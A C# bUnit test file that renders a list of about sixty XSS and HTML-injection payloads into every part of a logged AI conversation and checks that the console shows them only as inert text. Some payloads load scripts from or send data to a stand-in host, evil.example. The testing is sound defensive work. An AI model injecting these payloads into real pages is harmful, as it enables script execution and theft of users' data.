using System.Text.Json.Nodes;
using AngleSharp.Dom;
using Bunit;
using ConsoleWeb.Components.Pages.Logs;
using ConsoleWeb.Features.Requests.Conversations;

namespace ConsoleWeb.Tests.Components.Logs;

/// <summary>
/// What models, tools and people write may be markup. Wherever it stands in a conversation, the page shows it as text: no element, no
/// attribute and no address comes from it, so nothing can run and nothing is fetched.
/// </summary>
public sealed class HostileContentTests : BunitContext
{
    private static readonly string[] Payloads =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "<!--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "<img src=//evil.example/p.png>", "<img/src/onerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "![x](https://evil.example/p.png?d=secret)", "![x](javascript:alert(1))", "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>", "<svg><use href=//evil.example/x.svg#y>", "<svg><animate onbegin=alert(1)>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=//evil.example/x>", "<embed src=//evil.example/x>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/x>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<style>@import '//evil.example/x.css'</style>",
        "<div style=background:url(//evil.example/x)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video src=x onerror=alert(1)>", "<audio src=//evil.example/x autoplay>", "<input autofocus onfocus=alert(1)>",
        "<form action=//evil.example><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<a href=javascript:alert(1)>x</a>", "<a href=' java\tscript:alert(1)'>x</a>", "<a href=//evil.example ping=//evil.example/p>x</a>",
        "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "@(alert(1))", "javascript:alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "\u0000<script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "\u202e<script>alert(1)</script>",
        "\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007", "＜script＞alert(1)＜/script＞",
    ];

    /// <summary>Where a conversation holds text of others; each is rendered with every payload.</summary>
    private static readonly (string Place, Func<string, (JsonObject Request, JsonObject Answer)> Make)[] Places =
    [
        ("person", p => (Asked(p), Said("x"))), ("agent", p => (Asked("x"), Said(p))), ("system", p => (new() { ["system"] = p, ["messages"] = new JsonArray(Message("user", "x")) }, Said("x"))),
        ("role", p => (new() { ["messages"] = new JsonArray(Message(p, "x")) }, Said("x"))), ("thinking", p => (Asked("x"), Block(new() { ["type"] = "thinking", ["thinking"] = p }))),
        ("tool", p => (Asked("x"), Block(new() { ["type"] = "tool_use", ["id"] = "t", ["name"] = p, ["input"] = new JsonObject() }))),
        ("command", p => (Asked("x"), Block(new() { ["type"] = "tool_use", ["id"] = "t", ["name"] = "Bash", ["input"] = new JsonObject { ["command"] = p } }))),
        ("argument", p => (Asked("x"), Block(new() { ["type"] = "tool_use", ["id"] = "t", ["name"] = "Bash", ["input"] = new JsonObject { [p] = p } }))),
        ("offered tool", p => (new() { ["messages"] = new JsonArray(Message("user", "x")), ["tools"] = new JsonArray(new JsonObject { ["name"] = p, ["description"] = p }) }, Said("x"))),
    ];

    /// <summary>What the page is made of without anybody's text.</summary>
    private static readonly string[] Inert = ["ARTICLE", "BUTTON", "CODE", "DETAILS", "DIV", "H2", "H3", "LI", "OL", "P", "PRE", "SECTION", "SPAN", "SUMMARY", "UL", "HEADER", "SMALL", "B", "STRONG", "TABLE", "TBODY", "TR", "TD", "TH"];

    [Fact]
    public void Payloads_InEveryPlace_AreShownAsText()
    {
        var count = 0;
        foreach (var (place, make) in Places)
        {
            foreach (var payload in Payloads)
            {
                var (request, answer) = make(payload);
                var view = Render<ConversationView>(p => p.Add(v => v.State, PayloadState.Whole).Add(v => v.Conversation, Conversation.Read(request.ToJsonString(), answer.ToJsonString())));

                foreach (var element in view.FindAll("*"))
                {
                    Assert.True(Inert.Contains(element.TagName.ToUpperInvariant()) || IsIcon(element), $"{place}: {payload} made <{element.TagName}>");
                    Assert.All(element.Attributes, a => Assert.False(IsActive(a.Name, a.Value), $"{place}: {payload} made {a.Name}=\"{a.Value}\""));
                }

                count++;
            }
        }

        Assert.True(count >= 500, $"{count} renderings");
    }

    /// <summary>One of the console's own icons: a drawing of one path that says nothing.</summary>
    private static bool IsIcon(IElement element) => element.TagName.ToUpperInvariant() switch
    {
        "SVG" => element is { ClassName: "i" or "i s", ChildElementCount: 1, TextContent: "" },
        "PATH" => element is { ChildElementCount: 0, Attributes.Length: 1, ParentElement.ClassName: "i" or "i s" } && element.HasAttribute("d"),
        _ => false,
    };

    private static bool IsActive(string name, string value) =>
        name is "src" or "href" or "style" or "srcdoc" or "action" or "formaction" or "background" or "ping" or "data" or "xlink:href"
        || (name.StartsWith("on", StringComparison.OrdinalIgnoreCase) && !name.Contains(':', StringComparison.Ordinal))
        || value.Contains("evil.example", StringComparison.Ordinal) && name is not ("title" or "aria-label");

    private static JsonObject Message(string role, string text) => new() { ["role"] = role, ["content"] = text };

    private static JsonObject Asked(string text) => new() { ["messages"] = new JsonArray(Message("user", text)) };

    private static JsonObject Said(string text) => Block(new JsonObject { ["type"] = "text", ["text"] = text });

    private static JsonObject Block(JsonObject block) => new() { ["content"] = new JsonArray(block) };
}
